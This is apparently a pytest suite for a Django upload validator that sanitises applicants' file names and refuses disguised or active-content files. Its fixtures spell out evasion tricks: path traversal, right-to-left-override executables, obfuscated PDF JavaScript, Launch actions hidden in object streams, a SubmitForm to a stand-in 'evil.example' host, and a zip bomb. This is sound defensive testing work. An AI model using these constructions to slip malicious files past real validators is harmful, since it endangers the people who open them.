"""Checking applicants' files: what is refused, with which message, and what is recorded."""

import hashlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from aap_wagtail.applications.attachments import check_upload, clean_filename, detect_type

from ..helpers.uploads import image_bytes, pdf_bytes, zip_bytes

MB = 1024 * 1024


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def raw_pdf(*objects: bytes) -> bytes:
    """A hand-written PDF whose first object is the catalog."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def docx_bytes() -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
            "word/document.xml": b'<?xml version="1.0"?><w:document/>',
        }
    )


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def refusal(file, *, extensions=("pdf", "jpg", "png"), max_size_mb=5) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        check_upload(file, extensions=list(extensions), max_size_mb=max_size_mb)
    return caught.value


# -- clean_filename ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\Marie\\Statuts signés.pdf", "Statuts signés.pdf"),
        ("rapport\u202efdp.exe", "rapportfdp.exe"),
        ("budget\u200b 2023.xlsx", "budget 2023.xlsx"),
        ("ﬁche   projet.pdf", "fiche projet.pdf"),
        ("devis <final>?.pdf", "devis _final__.pdf"),
        ("...cachée.pdf", "cachée.pdf"),
        ("  . ", "fichier"),
        (".pdf", "fichier.pdf"),
        ("", "fichier"),
        ("////", "fichier"),
        ("compte\trendu\n.pdf", "compterendu.pdf"),
    ],
)
def test_clean_filename(name, expected):
    assert clean_filename(name) == expected


def test_clean_filename_keeps_the_extension_when_shortened():
    cleaned = clean_filename("a" * 300 + ".pdf")
    assert cleaned == "a" * 116 + ".pdf"
    assert len(cleaned) == 120


def test_clean_filename_stays_within_a_file_system_name():
    cleaned = clean_filename("文" * 200 + ".pdf")
    assert cleaned.endswith(".pdf")
    assert len(cleaned.encode()) <= 240


# -- detect_type ------------------------------------------------------------------------------


def test_detect_type_reads_the_content_not_the_name():
    assert detect_type(pdf_bytes()[:8192]) == ("pdf", "application/pdf")
    assert detect_type(image_bytes("PNG")) == ("png", "image/png")
    assert detect_type(image_bytes("JPEG")) == ("jpg", "image/jpeg")
    assert detect_type(b"MZ" + b"\0" * 200)[0] == "exe"
    assert detect_type(b"\x7fELF" + b"\x02\x01\x01" + b"\0" * 200)[0] == "elf"


def test_detect_type_text():
    assert detect_type("nom;montant\nCafé;12\n".encode()) == ("txt", "text/plain")
    # A character cut by the 8 KB window is still text.
    assert detect_type("é".encode() * 10 + "é".encode()[:1]) == ("txt", "text/plain")
    assert detect_type(b"abc\x00def") == (None, None)
    assert detect_type(b"\xff\xfe\xfa text") == (None, None)
    assert detect_type(b"") == (None, None)


# -- check_upload: accepted files -------------------------------------------------------------


def test_valid_pdf_is_counted_and_hashed():
    content = pdf_bytes(pages=3)
    file = upload("Statuts\u202e.pdf", content)
    checked = check_upload(file, extensions=["pdf"], max_size_mb=5)
    assert checked.name == "Statuts.pdf"
    assert checked.extension == "pdf"
    assert checked.content_type == "application/pdf"
    assert checked.size == len(content)
    assert checked.sha256 == hashlib.sha256(content).hexdigest()
    assert checked.page_count == 3
    assert checked.file is file
    assert file.tell() == 0


@pytest.mark.parametrize(
    ("name", "image_format", "content_type"),
    [
        ("photo.png", "PNG", "image/png"),
        ("photo.jpg", "JPEG", "image/jpeg"),
        ("photo.JPEG", "JPEG", "image/jpeg"),
    ],
)
def test_images_are_accepted(name, image_format, content_type):
    checked = check_upload(
        upload(name, image_bytes(image_format)), extensions=["pdf", "jpg", "png"], max_size_mb=1
    )
    assert checked.content_type == content_type
    assert checked.page_count is None


def test_jpg_is_accepted_where_jpeg_is_asked():
    checked = check_upload(
        upload("photo.jpg", image_bytes("JPEG")), extensions=["jpeg"], max_size_mb=1
    )
    assert checked.extension == "jpg"


def test_real_docx_is_accepted():
    checked = check_upload(upload("Budget.docx", docx_bytes()), extensions=["docx"], max_size_mb=1)
    assert checked.content_type == (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )


def test_real_odt_is_accepted():
    content = zip_bytes(
        {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}
    )
    check_upload(upload("Budget.odt", content), extensions=["odt"], max_size_mb=1)


def test_utf8_csv_is_accepted():
    content = "nom;montant\nAssociation Ti Numérik;2300\n".encode()
    checked = check_upload(upload("budget.csv", content), extensions=["csv"], max_size_mb=1)
    assert checked.content_type == "text/csv"


def test_size_just_at_the_limit_is_accepted():
    content = b"a" * MB
    checked = check_upload(upload("notes.txt", content), extensions=["txt"], max_size_mb=1)
    assert checked.size == MB


# -- check_upload: refusals -------------------------------------------------------------------


def test_empty_file():
    error = refusal(upload("statuts.pdf", b""))
    assert error.code == "empty"
    assert error.messages == ["This file is empty. Choose the file again."]


def test_file_over_the_limit():
    error = refusal(upload("notes.txt", b"a" * (MB + 1)), extensions=["txt"], max_size_mb=1)
    assert error.code == "too_big"
    assert error.messages == [
        "This file is 1.1 MB; the limit is 1 MB. Reduce it (for example, scan at a lower "
        "resolution) and try again."
    ]


def test_size_is_checked_before_the_type():
    error = refusal(upload("virus.exe", b"MZ" + b"\0" * (2 * MB)), max_size_mb=1)
    assert error.code == "too_big"


def test_extension_not_accepted():
    error = refusal(upload("statuts.doc", b"whatever"))
    assert error.code == "extension"
    assert error.messages == ["This type of file is not accepted here. Accepted: pdf, jpg, png."]


def test_no_extension_is_not_accepted():
    assert refusal(upload("statuts", pdf_bytes())).code == "extension"


def test_directory_in_the_name_is_dropped_before_the_check():
    checked = check_upload(
        upload("../../etc/passwd.pdf", pdf_bytes()), extensions=["pdf"], max_size_mb=1
    )
    assert checked.name == "passwd.pdf"


def test_right_to_left_override_does_not_disguise_an_executable():
    # Shown as "statutsfdp.pdf" by some systems, really "statuts<RLO>fdp.exe".
    error = refusal(upload("statuts\u202efdp.exe", b"MZ" + b"\0" * 500))
    assert error.code == "extension"


@pytest.mark.parametrize(
    "content",
    [b"MZ" + b"\x90" * 1000, b"\x7fELF\x02\x01\x01" + b"\0" * 1000],
    ids=["windows-exe", "elf"],
)
def test_executable_renamed_pdf(content):
    error = refusal(upload("statuts.pdf", content))
    assert error.code == "content"
    assert error.messages == [
        "This file's content is not a real PDF file. Save it again as PDF and retry."
    ]


def test_pdf_without_signature():
    assert refusal(upload("statuts.pdf", b"just some text, not a PDF")).code == "content"


def test_damaged_pdf():
    error = refusal(upload("statuts.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 100))
    assert error.code == "content"
    assert error.messages == [
        "This PDF file is damaged and cannot be read. Save it again as PDF and retry."
    ]


def test_pdf_with_javascript():
    error = refusal(upload("statuts.pdf", pdf_bytes(javascript="app.alert('hello');")))
    assert error.code == "content"
    assert error.messages == [
        "This PDF contains a script or an embedded program (JavaScript, an action that opens a "
        "program, attached files, a form that sends data), which is not allowed. Print it to a "
        "new PDF and retry."
    ]


def test_pdf_with_javascript_hidden_in_a_page_annotation():
    # "/J#53" is "/JS" written with an escaped letter; the action sits on a link, not the catalog.
    content = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A 5 0 R >>",
        b"<< /S /JavaScript /J#53 (app.alert(1)) >>",
    )
    assert refusal(upload("statuts.pdf", content)).code == "content"


def test_hand_written_pdf_without_script_is_accepted():
    content = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    )
    checked = check_upload(upload("statuts.pdf", content), extensions=["pdf"], max_size_mb=1)
    assert checked.page_count == 2


def test_pdf_renamed_png():
    error = refusal(upload("photo.png", pdf_bytes()))
    assert error.code == "content"
    assert error.messages == [
        "This file's content is not a real PNG file. Save it again as PNG and retry."
    ]


def test_png_renamed_jpg():
    assert refusal(upload("photo.jpg", image_bytes("PNG"))).code == "content"


def test_zip_bomb_disguised_as_docx():
    content = zip_bytes({"[Content_Types].xml": b"<Types/>", "word/media/big.bin": bytes(30 * MB)})
    assert len(content) < MB
    error = refusal(upload("budget.docx", content), extensions=["docx"], max_size_mb=1)
    assert error.code == "content"
    assert error.messages == [
        "This file is too large once opened. Remove large pictures or objects from it, save it "
        "again and retry."
    ]


def test_plain_zip_renamed_docx():
    content = zip_bytes({"word/document.xml": b"<w:document/>"})
    error = refusal(upload("budget.docx", content), extensions=["docx"])
    assert error.code == "content"
    assert error.messages == [
        "This file's content is not a real DOCX file. Save it again as DOCX and retry."
    ]


def test_docx_renamed_odt():
    assert refusal(upload("budget.odt", docx_bytes()), extensions=["odt"]).code == "content"


def test_text_with_nul_bytes():
    error = refusal(upload("notes.txt", b"hello\x00world"), extensions=["txt"])
    assert error.code == "content"
    assert error.messages == [
        "This file is not plain text in UTF-8. Save it again as TXT with the UTF-8 encoding and "
        "retry."
    ]


def test_text_with_nul_bytes_after_the_sniffed_part():
    content = b"a" * 10_000 + b"\x00"
    assert refusal(upload("notes.txt", content), extensions=["txt"]).code == "content"


def test_csv_not_in_utf8():
    content = "nom;montant\nAssociation Ti Numérik;2300\n".encode("cp1252")
    assert refusal(upload("budget.csv", content), extensions=["csv"]).code == "content"


def test_upload_is_rewound_after_a_refusal():
    file = upload("statuts.pdf", b"MZ" + b"\0" * 100)
    refusal(file)
    assert file.tell() == 0


# --- active content in well-formed PDFs (issue 15, point 6) -------------------------------------


def _well_formed_pdf(build) -> bytes:
    """A PDF written by pypdf (a proper cross-reference table), changed by ``build(writer)``."""
    import io

    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(kind: str, **entries):
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    def build(writer):
        action = DictionaryObject({NameObject("/S"): NameObject(kind)})
        for key, value in entries.items():
            action[NameObject(f"/{key}")] = TextStringObject(value)
        writer._root_object[NameObject("/OpenAction")] = action

    return build


def _embedded_file(writer):
    writer.add_attachment("virus.exe", b"MZ" + b"\x00" * 64)


def _large_embedded_file(writer):
    # Its data (1 MB) is longer than what the check reads of a stream: only the dictionary
    # (``/Type /EmbeddedFile``) can tell, and it does.
    import os

    writer.add_attachment("setup.exe", b"MZ" + os.urandom(1024 * 1024))


def _pdf_with_action_in_an_object_stream(action: bytes) -> bytes:
    """A PDF 1.5 whose ``OpenAction`` (object 5) is packed, with another object, in an object
    stream (object 4) of 100 kB listed by a cross-reference stream (object 6), as many tools
    write."""
    # Object 7 makes the object stream longer than what is read of an ordinary stream's data.
    packed = [(5, action), (7, b"<< /Notes (%s) >>" % (b"page " * 20_000))]
    index, body = [], b""
    for number, source in packed:
        index.append(f"{number} {len(body)}")
        body += source + b"\n"
    header = " ".join(index).encode() + b"\n"
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}

    def add(number: int, source: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n%s\nendobj\n" % (number, source))

    add(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>")
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
    stream = header + body
    add(
        4,
        b"<< /Type /ObjStm /N %d /First %d /Length %d >>\nstream\n%s\nendstream"
        % (len(packed), len(header), len(stream), stream),
    )
    offsets[6] = len(out)
    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]
    for number in range(1, 8):
        if number in (5, 7):
            rows.append(b"\x02" + (4).to_bytes(4, "big") + [5, 7].index(number).to_bytes(2, "big"))
        else:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
    table = b"".join(rows)
    out.extend(
        b"6 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s"
        b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, offsets[6])
    )
    return bytes(out)


def test_an_action_packed_in_an_object_stream_is_found():
    import io

    from pypdf import PdfReader

    launch = _pdf_with_action_in_an_object_stream(b"<< /S /Launch /F (calc.exe) >>")
    reader = PdfReader(io.BytesIO(launch))
    assert len(reader.pages) == 1 and reader.xref_objStm  # well formed, with an object stream
    assert refusal(upload("statuts.pdf", launch)).code == "content"
    link = _pdf_with_action_in_an_object_stream(b"<< /S /URI /URI (https://www.example.org/) >>")
    checked = check_upload(upload("statuts.pdf", link), extensions=["pdf"], max_size_mb=1)
    assert checked.page_count == 1


def _rich_media(writer):
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject

    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/RichMedia"),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _xfa_form(writer):
    from pypdf.generic import DictionaryObject, NameObject, StreamObject

    xfa = StreamObject()
    xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/XFA"): writer._add_object(xfa)}
    )


@pytest.mark.parametrize(
    "build",
    [
        pytest.param(_open_action("/Launch", F="calc.exe"), id="launch a program"),
        pytest.param(_embedded_file, id="embedded file"),
        pytest.param(_large_embedded_file, id="embedded file of 1 MB"),
        pytest.param(_open_action("/SubmitForm", F="https://evil.example/collect"), id="submit"),
        pytest.param(_open_action("/ImportData", F="data.fdf"), id="import data"),
        pytest.param(_rich_media, id="rich media"),
        pytest.param(_xfa_form, id="XFA form"),
    ],
)
def test_a_well_formed_pdf_with_active_content_is_refused(build):
    data = _well_formed_pdf(build)
    import io

    from pypdf import PdfReader

    assert len(PdfReader(io.BytesIO(data)).pages) == 1  # a readable, well-formed file
    error = refusal(upload("statuts.pdf", data))
    assert error.code == "content"
    assert "embedded program" in error.messages[0]


def test_a_well_formed_pdf_with_a_plain_link_is_accepted():
    plain = _well_formed_pdf(lambda writer: None)
    assert (
        check_upload(upload("statuts.pdf", plain), extensions=["pdf"], max_size_mb=1).page_count
        == 1
    )
    linked = _well_formed_pdf(_open_action("/URI", URI="https://www.example.org/"))
    checked = check_upload(upload("statuts.pdf", linked), extensions=["pdf"], max_size_mb=1)
    assert checked.page_count == 1
